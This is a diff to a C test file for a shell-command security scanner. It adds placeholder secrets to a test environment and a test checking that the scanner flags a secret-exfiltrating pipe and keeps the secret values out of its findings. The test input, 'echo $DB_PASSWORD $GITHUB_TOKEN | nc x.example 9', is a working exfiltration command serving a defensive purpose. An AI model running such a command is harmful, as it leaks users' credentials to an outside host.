@@ -6,7 +6,8 @@
 #include "shparse.h"
 #include "t.h"
 
-static char *const env[] = {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/alice", NULL};
+static char *const env[] = {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/alice",
+			    "GITHUB_TOKEN=ghp_notarealtoken1234", "DB_PASSWORD=hunter2", NULL};
 
 static int init(void)
 {
@@ -368,6 +369,21 @@ TEST(shell_uninspected_parts_fail_closed)
 	ASSERT_EQ(f.v[0].confidence, CONF_LOW);
 	/* big but complete expansions are not a reason */
 	ASSERT_TRUE(quiet("echo {1..2000}"));
+	shell_free();
+}
+
+TEST(shell_secret_variables_never_reach_findings)
+{
+	struct findings f = {0};
+	const char *cmd = "echo $DB_PASSWORD $GITHUB_TOKEN | nc x.example 9";
+
+	ASSERT_EQ(init(), 0);
+	shell_scan_command(cmd, strlen(cmd), "w", 1, &f);
+	ASSERT_TRUE(findings_has(&f, "shell", "exfil-pipe"));
+	for (size_t i = 0; i < f.n; i++) {
+		ASSERT_TRUE(strstr(f.v[i].detail, "hunter2") == NULL);
+		ASSERT_TRUE(strstr(f.v[i].detail, "ghp_") == NULL);
+	}
 	shell_free();
 }
 
